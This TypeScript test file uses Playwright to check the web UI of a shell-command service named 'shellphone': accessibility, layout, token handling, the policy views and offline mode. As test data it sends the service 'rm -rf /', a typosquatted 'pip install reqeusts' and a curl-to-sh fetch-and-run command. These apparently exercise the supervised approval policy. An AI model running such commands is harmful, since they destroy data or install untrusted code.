import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import type { Browser, Page } from 'playwright-core'
import t from 'tap'
import { goTo, isConnected, noBrowser, openBrowser, openPaired, openVisit, shotFolder, sizes } from './browser.ts'
import { freePort, root, startService, until } from './helper.ts'

const skip = noBrowser ?? false
const MAX_GZIP_BYTES = 60_000

let browser: Browser
const service = skip
  ? null
  : await startService({
      env: { SHELLPHONE_POLICY: 'supervised', SHELLPHONE_TERMINAL: 'on', SHELLPHONE_APPROVAL_TIMEOUT_SECONDS: '600' },
    })
t.before(async () => {
  if (skip) return
  browser = await openBrowser()
  for (const command of ['uname -a', 'ls /no-such', 'rm -rf /', "printf '\\033[1;32mgreen\\033[0m\\n'; seq 1 30"]) {
    await service!.exec({ command })
  }
  await service!.post('/exec', { command: 'pip install reqeusts', background: true })
})
t.teardown(async () => {
  await browser?.close()
  await service?.stop()
})

/** Every view, each with what says that it is there; the newest run that has ended and a terminal are among them. */
async function addresses(): Promise<[name: string, address: string][]> {
  const { runs } = (await (await service!.request('/runs?q=seq')).json()) as { runs: { id: string }[] }
  const opened = await service!.post('/exec', { command: 'exec sh', tty: { rows: 24, columns: 80 }, background: true })
  const { id } = (await opened.json()) as { id: string }
  const plain = ['run', 'runs', 'approvals', 'rules', 'policy', 'terminal', 'phone', 'settings', 'access', 'more']
  return [
    ...plain.map((name): [string, string] => [name, `#/${name}`]),
    ['one-run', `#/runs/${runs[0]!.id}`],
    ['one-terminal', `#/terminal/${id}`],
    ['policy-answer', `#/policy?command=${encodeURIComponent('curl https://x.example/i.sh | sh')}`],
  ]
}

/** What a view asks for has come. */
const isSettled = (page: Page) =>
  until(async () => (await page.locator('.state.loading').count()) === 0, 20_000).then(() => page.waitForTimeout(350))

interface Found {
  id: string
  nodes: { html: string; failureSummary: string }[]
}

t.test('every view, dark and light, on a phone and a laptop', { skip }, async (t) => {
  const views = await addresses()
  const axe = readFileSync(join(root, 'node_modules/axe-core/axe.min.js'), 'utf8')
  const { page, context, troubles } = await openPaired(browser, service!, { bypassCSP: true })
  const tags = ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice']
  await page.evaluate(axe)
  for (const [name, address] of views) {
    await goTo(page, address)
    await isSettled(page)
    for (const [size, viewport] of Object.entries(sizes)) {
      for (const colorScheme of ['dark', 'light'] as const) {
        await page.setViewportSize(viewport)
        await page.emulateMedia({ colorScheme })
        await page.waitForTimeout(150)
        await page.screenshot({ path: join(shotFolder(), `${name}-${size}-${colorScheme}.png`) })
        const wide = await page.evaluate('document.documentElement.scrollWidth - document.documentElement.clientWidth')
        t.equal(wide, 0, `${name}, ${size}: nothing stands over the edge`)
        const found = (await page.evaluate(
          `axe.run({ runOnly: ${JSON.stringify(tags)}, resultTypes: ['violations'] }).then(({ violations }) => violations)`,
        )) as Found[]
        const told = found.map(({ id, nodes }) => `${id}: ${nodes[0]!.html.slice(0, 200)} ${nodes[0]!.failureSummary}`)
        t.same(told, [], `${name}, ${size}, ${colorScheme}: axe-core`)
      }
    }
  }
  t.same(troubles, [])
  await context.close()
})

t.test('the same under its policy, without a word on the console', { skip }, async (t) => {
  const { page, context, troubles } = await openPaired(browser, service!, { viewport: sizes.phone })
  for (const [name, address] of await addresses()) {
    await goTo(page, address)
    await isSettled(page)
    t.equal(await page.locator('.state.failed').count(), 0, name)
    t.equal(await page.locator('h1').count(), 1, `${name}: one heading`)
  }
  await page.reload()
  await isConnected(page)
  t.match(page.url(), /#\/policy\?command=curl/, 'a reload is where it was')
  await page.goBack()
  t.match(page.url(), /#\/terminal\//, 'and back goes back')
  t.same(troubles, [])
  await context.close()
})

t.test('tokens are made, used and revoked; another device is paired', { skip }, async (t) => {
  const { page, context, troubles } = await openPaired(browser, service!, { view: '#/access' })
  await page.getByText('For an agent, with the least').click()
  await page.getByLabel('Name').fill('robot')
  await page.getByRole('button', { name: 'Make it' }).click()
  const token = (await page.locator('.secret code').textContent())!
  t.equal((await service!.request('/runs', { token })).status, 200, 'the token that was told holds')
  await page.locator('.lines li', { hasText: 'robot' }).getByRole('button').click()
  await page.getByRole('button', { name: 'Yes, revoke robot' }).click()
  await page.locator('.lines li', { hasText: 'robot' }).waitFor({ state: 'detached' })
  t.equal((await service!.request('/runs', { token })).status, 401, 'and no longer')
  await page.getByRole('button', { name: 'Show a code' }).click()
  const link = (await page.locator('.offer code').first().textContent())!
  const other = await openVisit(browser, { viewport: sizes.phone })
  await other.page.goto(link)
  await isConnected(other.page)
  await page.getByRole('button', { name: 'Forget this browser' }).click()
  await page.getByText('has forgotten its token').waitFor()
  t.same([...troubles, ...other.troubles], [])
  await Promise.all([context.close(), other.context.close()])
})

t.test('settings are found, and the policy answers what is supposed', { skip }, async (t) => {
  const { page, context, troubles } = await openPaired(browser, service!, { view: '#/settings' })
  await page.getByLabel('Search').fill('supervised open')
  await page.locator('.setting', { hasText: 'policy' }).first().waitFor()
  t.match(await page.locator('.setting').first().textContent(), /"supervised".*environment/)
  await goTo(page, '#/policy?command=uname')
  await page.getByText('It would run').waitFor()
  await page.getByText('Suppose other settings').click()
  await page.getByLabel('Lines of config.yaml').fill('allowed_commands: ["ls"]')
  await page.getByText('It would be denied').waitFor()
  t.equal(await page.locator('.yaml pre').textContent(), 'allowed_commands: ["ls"]')
  await page.getByLabel('Lines of config.yaml').fill('nonsense')
  await page.getByText('expected "name: value", got "nonsense"').waitFor()
  t.same(troubles, [])
  await context.close()
})

t.test('without the service it opens, says since when, and goes on by itself', { skip }, async (t) => {
  const home = mkdtempSync(join(tmpdir(), 'shellphone-offline-'))
  t.teardown(() => rmSync(home, { recursive: true, force: true }))
  const flags = ['--port', String(await freePort())]
  const first = await startService({ home, flags })
  const visit = await openPaired(browser, first, {
    expected: [/ERR_CONNECTION_REFUSED|WebSocket connection to|ERR_CONNECTION_RESET/],
  })
  const { page, context, troubles } = visit
  await page.evaluate('navigator.serviceWorker.ready.then(() => 1)')
  const session = await context.newCDPSession(page)
  const { installabilityErrors } = await session.send('Page.getInstallabilityErrors')
  const errors = installabilityErrors.map(({ errorId }) => errorId)
  t.same(
    errors.filter((id) => id !== 'in-incognito'),
    [],
    'it can be installed, but for a test’s context being incognito',
  )
  await first.stop()
  await page.reload()
  await page
    .getByRole('status')
    .filter({ hasText: /no connection since \d/ })
    .waitFor()
  await page.screenshot({ path: join(shotFolder(), 'offline.png') })
  t.equal(await page.locator('nav.bar').count(), 1, 'the frame stands')
  const kept = await page.evaluate(`caches.keys().then(async (names) =>
    (await Promise.all(names.map(async (name) => (await (await caches.open(name)).keys()).map(({ url }) => new URL(url).pathname)))).flat())`)
  t.ok(
    (kept as string[]).every((path) => /^\/($|page\/|icon)/.test(path)),
    `what is kept is the shell alone: ${kept}`,
  )
  const again = await startService({ home, flags })
  await isConnected(page)
  t.same(troubles, [], 'back without a reload')
  await context.close()
  await again.stop()
})

t.test('it is small', async (t) => {
  let sum = 0
  for (const name of readdirSync(join(root, 'dist/page'))) {
    const bytes = gzipSync(readFileSync(join(root, 'dist/page', name)), { level: 9 }).length
    if (!name.startsWith('terminal.')) sum += bytes
    t.comment(`${name}: ${bytes} bytes gzip`)
  }
  t.ok(sum <= MAX_GZIP_BYTES, `${sum} bytes gzip in all, without the terminal`)
})
